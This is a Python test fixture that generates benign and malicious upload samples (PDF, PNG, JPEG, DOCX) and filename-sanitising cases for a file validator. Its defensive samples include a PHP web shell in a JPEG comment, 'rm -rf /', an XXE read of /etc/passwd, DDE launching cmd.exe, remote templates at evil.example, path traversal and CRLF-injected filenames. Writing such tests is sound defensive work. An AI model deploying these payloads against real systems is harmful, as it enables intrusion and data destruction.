"""Files as people send them, sound and unsound, made here so that none has to be kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.core.rendering.make_docx import PARTS, TYPES, changed, packed, parts_of, word

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTES_10 = 10 * 1024 * 1024


def chunk(kind: bytes, content: bytes) -> bytes:
    crc = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", crc)


def png(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0\xff\0\0")
    body = chunk(b"IHDR", head) + more + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def segment(marker: int, content: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content


def jpeg(width: int = 8, height: int = 8, more: bytes = b"") -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")
        + more
        + segment(0xC0, frame)
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x00\x01\x02\x03\xff\xd9"
    )


def pdf(more: bytes = b"", catalog: bytes = b"", tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
        + more
        + b"xref\n0 4\ntrailer << /Root 1 0 R /Size 4 >>\nstartxref\n9\n%%EOF\n"
        + tail
    )


def stream(content: bytes, described: bytes = b"", packed: bool = True) -> bytes:
    data = zlib.compress(content) if packed else content
    how = b" /Filter /FlateDecode" if packed else b""
    return (
        b"8 0 obj\n<< /Length %d%s %s >>\nstream\n" % (len(data), how, described)
        + data
        + b"\nendstream\nendobj\n"
    )


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def docx(change: Callable[[PARTS], object]) -> bytes:
    return changed(change)


def add(name: str, data: bytes = b"x") -> bytes:
    """A Word file with one part more."""
    return docx(lambda parts: parts.update({name: data}))


def relationship(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file that refers to something."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    line = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx(
        lambda parts: parts.update(
            {
                "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
                    b"</Relationships>", line.encode() + b"</Relationships>"
                )
            }
        )
    )


def body(xml: bytes) -> bytes:
    """A Word file with this at the end of its text."""
    return docx(
        lambda parts: parts.update(
            {
                "word/document.xml": parts["word/document.xml"].replace(
                    b"<w:sectPr", xml + b"<w:sectPr"
                )
            }
        )
    )


def macro_enabled() -> bytes:
    return docx(
        lambda parts: parts.update(
            {
                TYPES: parts[TYPES].replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                    b"application/vnd.ms-word.document.macroEnabled.main",
                )
            }
        )
    )


def doctype() -> bytes:
    return docx(
        lambda parts: parts.update(
            {
                "word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                + parts["word/document.xml"]
            }
        )
    )


PNG, JPEG, PDF, WORD = png(), jpeg(), pdf(), word("Een gewone brief.")
_SPARE = parts_of(WORD)

GOOD: dict[str, bytes] = {
    "pdf": PDF,
    "pdf that opens at a page": pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "pdf with a link": pdf(b"7 0 obj\n<< /S /URI /URI (https://voorbeeld.be) >>\nendobj\n"),
    "pdf with /JS by chance in a picture": pdf(stream(b"..../JS ....", packed=False)),
    "pdf with packed objects": pdf(stream(b"1 0 << /Type /Font >>", b"/Type /ObjStm")),
    "png": PNG,
    "png with a comment": png(more=chunk(b"tEXt", b"Comment\0een tekening")),
    "jpeg": JPEG,
    "jpeg with zeros after it": JPEG + b"\0" * 40,
    "docx": WORD,
    "10 MB": pdf(stream(b"\0" * (MEGABYTES_10 - len(PDF) - 100), packed=False))[:MEGABYTES_10],
}

BAD: dict[str, bytes] = {
    "nothing": b"",
    "10 MB and a byte": PDF + b" " * (MEGABYTES_10 + 1 - len(PDF)),
    "exe renamed": b"MZ\x90\x00" + b"\0" * 200,
    "elf renamed": b"\x7fELF" + b"\0" * 200,
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "html": b"<!doctype html><script>alert(1)</script>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg with xml head": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "text": b"Beste collega,",
    "rtf": b"{\\rtf1 {\\object\\objdata 0105}}",
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "gif": b"GIF89a" + b"\0" * 50,
    "heic": b"\0\0\0\x18ftypheic" + b"\0" * 50,
    "mail": b"From: a@b.be\r\nSubject: x\r\n\r\nx",
    "plain zip": zipped(("nota.txt", b"x")),
    "xlsx": zipped(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<a/>")),
    "jar": zipped(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"\xca\xfe\xba\xbe")),
    "eicar": EICAR,
    "eicar in a pdf": pdf(stream(EICAR, packed=False)),
    "eicar in a docx": add("docProps/extra.xml", b"<a>" + EICAR.replace(b"&", b"") + b"</a>"),
    "pdf with script": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf with a hidden name": pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "pdf that launches": pdf(b"7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
    "pdf with a file": pdf(catalog=b"/Names << /EmbeddedFiles 5 0 R >>"),
    "pdf with rich media": pdf(b"7 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"),
    "pdf that sends a form": pdf(b"7 0 obj\n<< /S /SubmitForm /F (https://x) >>\nendobj\n"),
    "pdf with an xfa form": pdf(catalog=b"/AcroForm << /XFA 6 0 R >>"),
    "pdf with additional actions": pdf(catalog=b"/AA << /WC 5 0 R >>"),
    "pdf that goes elsewhere": pdf(b"7 0 obj\n<< /S /GoToR /F (//host/x) >>\nendobj\n"),
    "pdf with script in packed objects": pdf(
        stream(b"1 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm")
    ),
    "pdf with objects packed oddly": pdf(
        b"8 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream\nendobj\n"
    ),
    "pdf that is a bomb": pdf(stream(b"\0" * 60_000_000, b"/Type /ObjStm")),
    "pdf with a password": pdf().replace(b"/Size 4", b"/Encrypt 9 0 R /Size 4"),
    "pdf cut off": PDF[:80],
    "pdf and zip": PDF + zipped(("a.exe", b"MZ")),
    "pdf and html": b"%PDF-1.7\n<html><script>1</script>" + PDF[9:],
    "html and pdf": b"<html>" + PDF,
    "png cut off": PNG[:-6],
    "png with a wrong sum": PNG[:30] + b"\x00" + PNG[31:],
    "png and zip": PNG + zipped(("a.js", b"x")),
    "png and html": png(more=chunk(b"tEXt", b"x\0<script>alert(1)</script>")),
    "png of a gigapixel": png(60_000, 60_000),
    "png without size": png(0, 0),
    "png only its head": b"\x89PNG\r\n\x1a\n",
    "jpeg cut off": JPEG[:-2],
    "jpeg and zip": JPEG + zipped(("a.exe", b"MZ")),
    "jpeg and exe": JPEG + b"MZ\x90\x00" + b"\0" * 50,
    "jpeg and php": jpeg(more=segment(0xFE, b"<?php system($_GET['c']); ?>")),
    "jpeg of a gigapixel": jpeg(65_000, 65_000),
    "jpeg only its head": b"\xff\xd8\xff\xe0",
    "docm renamed": macro_enabled(),
    "docx with a macro": add("word/vbaProject.bin"),
    "docx with an object": add("word/embeddings/oleObject1.bin"),
    "docx with a program": add("word/media/x.png", b"MZ\x90\x00"),
    "docx with svg": add("word/media/x.svg", b"<svg/>"),
    "docx with a remote template": relationship("attachedTemplate", "http://evil.example/a.dotm"),
    "docx with a remote picture": relationship("image", "http://evil.example/a.png"),
    "docx to a share": relationship("image", "file://///host/share/a.png"),
    "docx with DDE": body(b'<w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:r></w:p>'),
    "docx with altChunk": body(b'<w:altChunk xmlns:r="x" r:id="rId9"/>'),
    "docx with entities": doctype(),
    "docx with a path upwards": add("../../x.xml", b"<a/>"),
    "docx that is a bomb": add("word/media/x.xml", b"<a>" + b" " * 80_000_000 + b"</a>"),
    "docx with an exe behind it": WORD + b"MZ\x90\x00" + b"\0" * 50,
    "docx cut off": WORD[: len(WORD) // 2],
    "docx without text": packed({k: v for k, v in _SPARE.items() if "document.xml" not in k}),
}

# typed name → the name it is kept under, with the content of a PDF
NAMES = {
    "verslag.pdf": "verslag.pdf",
    "verslag.exe": "verslag.exe.pdf",
    "foto.jpg": "foto.pdf",
    "../../etc/passwd": "passwd.pdf",
    "C:\\Users\\els\\brief.pdf": "brief.pdf",
    "": "document.pdf",
    ".pdf": "pdf.pdf",
    "CON.pdf": "bestand-CON.pdf",
    "nul": "bestand-nul.pdf",
    "a\u202efdp.exe": "afdp.exe.pdf",
    'a"<b>|c?.pdf': "abc.pdf",
    "Łukasz & Zoë.pdf": "Łukasz & Zoë.pdf",
    "regel\r\nSet-Cookie: x.pdf": "regel Set-Cookie x.pdf",
}
